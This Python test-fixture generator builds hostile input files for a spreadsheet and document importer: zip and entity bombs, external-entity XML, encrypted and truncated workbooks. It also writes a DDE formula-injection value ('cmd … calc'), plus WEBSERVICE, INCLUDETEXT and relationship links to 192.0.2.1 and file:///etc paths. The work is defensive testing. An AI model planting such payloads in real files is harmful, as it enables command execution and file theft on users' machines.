"""What must be refused, and what looks dangerous but reads right without being obeyed."""
import io
import re
import zipfile

import msoffcrypto
from msoffcrypto.format.ooxml import OOXMLFile

import hostile
from docx_tables import add_table, document, write_docx
from grid import Formula, plain_layout
from manifest import case, missing, returned, taken
from programs import (
    convert_soffice, csv_text, html_rows, openpyxl_book, spreadsheetml, via, write_csv, write_openpyxl, write_poi, write_soffice,
    write_xlsxwriter, write_xlwt)
from tables import digitization_communes
from themes_formats import SHEET, edited

ARCHIVES = {  # recipe: (extension, code, kept in the repository)
    "bomb_of_two_gibibytes": ("xlsx", "file.limit", False), "bomb_with_false_size": ("xlsx", ("file.unreadable", "file.limit"), False),
    "overlapping_entries": ("xlsx", "file.limit", False), "many_entries": ("xlsx", "file.limit", False),
    "nested_archives": ("zip", "file.type_unknown", False), "million_merges": ("xlsx", "file.limit", False),
    "entity_bomb": ("xlsx", "file.unreadable", True), "entity_bomb_in_sheet": ("xlsx", "file.unreadable", True),
    "entity_bomb_spreadsheetml": ("xml", "file.unreadable", True), "external_entity": ("xml", "file.unreadable", True),
    "external_entity_in_workbook": ("xlsx", "file.unreadable", True), "external_dtd": ("xml", "file.unreadable", True),
    "deep_html": ("html", "file.limit", False), "deep_sheet": ("xlsx", "file.limit", True),
    "deep_spreadsheetml": ("xml", "file.limit", False), "deep_word": ("docx", "file.limit", True),
    "deep_ods": ("ods", "file.limit", True), "repeated_cells_ods": ("ods", "file.limit", True),
    "many_relationships": ("xlsx", "file.limit", False), "line_of_fields": ("csv", "file.limit", False),
    "many_sheets": ("xlsx", "file.limit", True), "long_text": ("xlsx", "file.limit", True),
    "long_text_csv": ("csv", ("file.limit", "file.nothing_recognized"), False), "wide_html": ("html", ("file.limit", "file.nothing_recognized"), True),
    "string_out_of_table": ("xlsx", "file.unreadable", True), "row_out_of_sheet": ("xlsx", "file.unreadable", True),
    "column_out_of_sheet": ("xlsx", "file.unreadable", True), "circular_relations": ("xlsx", "file.unreadable", True),
    "escaping_target": ("xlsx", "file.unreadable", True), "without_workbook": ("xlsx", ("file.type_unknown", "file.unreadable"), True),
    "binary_workbook": ("xlsb", "file.binary_workbook", True),
}


def refused(code):
    """`code` may be several, of which any one will do."""
    if isinstance(code, str):
        return returned(code)
    return {"findings": [{"code": "|".join(code), "cell": None, "sheet": None}]}


def archives():
    for name, (extension, code, kept) in ARCHIVES.items():
        recipe = hostile.RECIPES[name]
        case(f"hostile/{name.replace('_', '-')}.{extension}", "a script", recipe.__doc__.strip(), refused(code),
             lambda path, recipe=recipe: path.write_bytes(recipe()), generate=None if kept else f"hostile.py {name}")


def raw(slug, what, data, code):
    case(f"hostile/{slug}", "a script", what, refused(code), lambda path: path.write_bytes(data() if callable(data) else data))


def book():
    buffer = io.BytesIO()
    openpyxl_book(plain_layout(digitization_communes())).save(buffer)
    return buffer.getvalue()


def made_by(write, *arguments):
    """The bytes that another program writes."""
    import pathlib
    import tempfile
    with tempfile.TemporaryDirectory() as folder:
        path = pathlib.Path(folder) / "made"
        write(path, plain_layout(digitization_communes()), *arguments)
        return path.read_bytes()


def types():
    raw("empty.xlsx", "No bytes.", b"", "file.empty")
    raw("empty.csv", "No bytes, named .csv.", b"", "file.empty")
    raw("byte-order-mark-alone.csv", "Nothing but a byte order mark.", b"\xef\xbb\xbf", "file.empty")
    raw("blanks-alone.csv", "Nothing but spaces and line ends.", b" \r\n\r\n  \r\n", ("file.empty", "file.nothing_recognized"))
    raw("zeros.xls", "Nothing but zero bytes.", bytes(4096), "file.type_unknown")
    raw("picture.xlsx", "A JPEG picture renamed to .xlsx.", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\0\0\x01\0\x01\0\0" + bytes(200), "file.type_unknown")
    raw("picture.png", "A PNG picture.", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\2\0\0\0" + bytes(100), "file.type_unknown")
    raw("archive.rar", "A RAR archive.", b"Rar!\x1a\x07\x01\x00" + bytes(200), "file.type_unknown")
    raw("archive.7z", "A 7-Zip archive.", b"7z\xbc\xaf\x27\x1c\0\4" + bytes(200), "file.type_unknown")
    raw("program.xls", "A Windows program renamed to .xls.", b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff" + bytes(300), "file.type_unknown")
    raw("folder.zip", "An archive that holds a workbook.", lambda: hostile.zipped({"bao-cao.xlsx": book()}), "file.type_unknown")
    raw("mail.eml", "A mail saved as a file.", b"From: a@example.invalid\r\nSubject: bao cao\r\n\r\nKinh gui\r\n",
        ("file.type_unknown", "file.nothing_recognized"))
    raw("page.html", "A log-in page saved instead of the export.",
        "<!DOCTYPE html><html><head><title>Đăng nhập</title></head><body><form><input name=u></form></body></html>".encode(),
        "file.nothing_recognized")
    raw("error.json", "A web system's error saved instead of the export.", b'{"status":401,"message":"Unauthorized"}',
        ("file.type_unknown", "file.nothing_recognized"))
    raw("report.pdf", "The export printed to PDF.", lambda: made_by(write_soffice, "pdf"), "file.type_unknown")
    raw("null-letters.csv", "Zero bytes stand between the letters of a UTF-8 text.",
        lambda: csv_text(plain_layout(digitization_communes()), ";").encode().replace(b"1", b"1\0\0"), "file.type_unknown")
    raw("lock-file.xlsx", "The owner file that Excel leaves beside an open workbook.", b"\x05Admin" + b" " * 49 + bytes(110), "file.type_unknown")
    raw("calendar.xls", "A compound file that is no workbook.", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4088), ("file.unreadable", "file.type_unknown"))


def damaged():
    raw("cut-off.xlsx", "The second half is missing.", lambda: book()[:3400], "file.unreadable")
    raw("cut-off-at-the-end.xlsx", "The last hundred bytes are missing.", lambda: book()[:-100], "file.unreadable")
    raw("cut-off.xls", "The second half of a BIFF8 workbook is missing.", lambda: made_by(write_xlwt)[:4000], "file.unreadable")
    raw("cut-off.ods", "The second half is missing.", lambda: made_by(write_soffice, "ods")[:5000], "file.unreadable")
    raw("cut-off.docx", "The second half is missing.", lambda: made_by(write_docx)[:9000], "file.unreadable")
    raw("cut-off.xml", "SpreadsheetML that ends in the middle of a row.",
        lambda: spreadsheetml(plain_layout(digitization_communes())).encode()[:6000], "file.unreadable")

    def flipped():
        data = bytearray(book())
        at = data.find(b"xl/worksheets/sheet1.xml") + 300
        data[at] ^= 0xFF
        return bytes(data)
    raw("checksum.xlsx", "A byte of the sheet was changed on the way.", flipped, "file.unreadable")

    def not_well_formed():
        buffer = io.BytesIO()
        path = buffer
        with zipfile.ZipFile(io.BytesIO(book())) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
            for name in source.namelist():
                data = source.read(name)
                if name == SHEET:
                    data = data.replace(b"</row>", b"</rwo>", 1)
                target.writestr(zipfile.ZipInfo(name, hostile.MOMENT), data)
        return buffer.getvalue()
    raw("not-well-formed.xlsx", "An end tag of the sheet is misspelt.", not_well_formed, "file.unreadable")
    raw("null-in-xml.xlsx", "A character reference to NUL stands in a cell.", lambda: hostile.zipped(hostile.package({
        "xl/worksheets/sheet1.xml": hostile.sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>a&#0;b</t></is></c></row>')})), "file.unreadable")


def locked():
    def encrypted(path):
        source = io.BytesIO(book())
        with open(path, "wb") as out:
            OOXMLFile(source).encrypt("bi-mat", out)
    case("hostile/password.xlsx", "openpyxl and msoffcrypto", "An .xlsx workbook with a password.", returned("file.encrypted"), encrypted)

    def locked_xls():
        data = bytearray(made_by(write_xlwt))
        # FILEPASS, the record that says how the rest is encrypted, in the place of the record after the first few.
        at = data.find(b"\x5c\x00\x70\x00")
        data[at:at + 10] = b"\x2f\x00\x70\x00\x01\x00\x01\x00\x01\x00"
        return bytes(data)
    raw("password.xls", "A BIFF8 workbook that begins with FILEPASS.", locked_xls, "file.encrypted")

    def locked_ods():
        parts = {"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "META-INF/manifest.xml": hostile.HEAD + (
            '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
            '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml" manifest:size="9000">'
            '<manifest:encryption-data manifest:checksum-type="SHA256-1K" manifest:checksum="AAAA"><manifest:algorithm'
            ' manifest:algorithm-name="http://www.w3.org/2001/04/xmlenc#aes256-cbc" manifest:initialisation-vector="AAAA"/>'
            '</manifest:encryption-data></manifest:file-entry></manifest:manifest>'),
            "content.xml": bytes((i * 73 + 41) % 256 for i in range(9000))}
        return hostile.zipped(parts)
    raw("password.ods", "An OpenDocument sheet whose content is encrypted.", locked_ods, "file.encrypted")
    case("hostile/old-word.doc", "LibreOffice Writer", "A Word 97–2003 document.", returned("file.legacy_word"),
         lambda path: old_word(path))


def old_word(path):
    import pathlib
    import tempfile
    with tempfile.TemporaryDirectory() as folder:
        source = pathlib.Path(folder) / "source.docx"
        write_docx(source, plain_layout(digitization_communes()))
        convert_soffice(source, path, "doc:MS Word 97")


def harmless():
    table = digitization_communes()
    grid = plain_layout(table)
    expect = taken(table.expected())

    def variant(slug, what, edit):
        case(f"hostile/{slug}.xlsx", "openpyxl, package edited by script", what, expect, lambda path: edited(path, grid, edit))

    variant("whole-sheet-dimension", "The sheet states the dimension A1:XFD1048576.",
            {SHEET: lambda t: re.sub(r'<dimension ref="[^"]*"', '<dimension ref="A1:XFD1048576"', t)})
    variant("boasting-string-table", "The string table claims four thousand million strings.", {
        "xl/sharedStrings.xml": lambda t: re.sub(r'uniqueCount="\d+"', 'count="4294967295" uniqueCount="4294967295"', t)})
    variant("lone-cell-at-the-end", "A stray note stands in the last cell of the sheet.", {
        SHEET: lambda t: t.replace("</sheetData>", '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>.</t></is></c></row></sheetData>')})
    variant("styles-to-the-end", "Every row down to the last carries a style and no content.", {
        SHEET: lambda t: t.replace("</sheetData>", '<row r="1048576" s="1" customFormat="1"/></sheetData><cols><col min="1" max="16384"'
                                   ' width="9"/></cols>', 1)})

    circular = plain_layout(table)
    circular.set("F7", Formula("=F7+0", table.rows[0].values[3]))
    circular.set("J7", Formula("=G7-J7", table.rows[0].values[7]))
    case("hostile/circular-formulas.xlsx", "XlsxWriter", "Formulas refer to themselves; their cached values are read.", expect,
         lambda path: write_xlsxwriter(path, circular))
    calling = plain_layout(table)
    calling.set("C7", Formula('=WEBSERVICE("http://192.0.2.1/x")', table.rows[0].values[0]))
    calling.set("D7", Formula("='file:///etc/[x.xls]S'!A1", table.rows[0].values[1]))
    case("hostile/formulas-that-call-out.xlsx", "XlsxWriter",
         "Formulas that would fetch a page and another workbook; their cached values are read, nothing is fetched.", expect,
         lambda path: write_xlsxwriter(path, calling))

    def control(text):
        return text.replace("ơ", "\u0007ơ").replace(" ", " \u001b\u0001", 1)
    case("hostile/control-characters.csv", "a script that prints CSV", "Bells and escapes stand in the texts.", expect,
         lambda path: write_csv(path, grid.mapped(control), ";"))
    case("hostile/control-characters.xls", "xlwt", "Bells and escapes stand in the texts.", expect,
         lambda path: write_xlwt(path, grid.mapped(control)))
    variant("escaped-control-characters", "Texts hold control characters in the escaped form _x0007_.", {
        "xl/sharedStrings.xml": lambda t: t.replace("<t>Xã ", "<t>Xã_x0007_ ").replace("<t>UBND ", "<t>UBND_x000D_ ")})
    case("hostile/control-characters-in-name.csv", "a script that prints CSV", "The file's name holds NUL, a bell and a line break.",
         expect, lambda path: write_csv(path, grid, ";"), context={"name": "so hoa\u0000\u0007\n2023-H1.csv"})

    def remarks(path):
        remarked = plain_layout(table)
        remarked.set("K4", "Ghi chú")
        for address, text in [("K7", "=1+1"), ("K8", "+84255123456"), ("K9", "-1"), ("K10", "@SUM(A1)"), ("K11", "=cmd|' /C calc'!A0")]:
            remarked.set(address, text)
        write_openpyxl(path, remarked)
    case("hostile/remarks-like-formulas.xlsx", "openpyxl", "Remarks begin with =, +, - and @ and are texts.", expect, remarks)

    def linked(path):
        buffer = io.BytesIO()
        write_docx(buffer, grid)
        with zipfile.ZipFile(buffer) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
            for name in source.namelist():
                data = source.read(name)
                if name == "word/_rels/document.xml.rels":
                    data = data.replace(b"</Relationships>", (
                        f'<Relationship Id="rIdX1" Type="{hostile.RELATIONS}/image" Target="http://192.0.2.1/a.png" TargetMode="External"/>'
                        f'<Relationship Id="rIdX2" Type="{hostile.RELATIONS}/attachedTemplate" Target="http://192.0.2.1/t.dotm" TargetMode="External"/>'
                        f'<Relationship Id="rIdX3" Type="{hostile.RELATIONS}/subDocument" Target="file:///etc/hostname" TargetMode="External"/>'
                        "</Relationships>").encode())
                if name == "word/document.xml":
                    data = data.replace(b"<w:sectPr", b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT'
                                        b' "http://192.0.2.1/x"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p><w:sectPr', 1)
                target.writestr(zipfile.ZipInfo(name, hostile.MOMENT), data, zipfile.ZIP_DEFLATED)
    case("hostile/external-links.docx", "python-docx, package edited by script",
         "A Word document with an image, a template and a text on the network, none of which is fetched.", expect, linked)


def all():
    archives()
    types()
    damaged()
    locked()
    harmless()
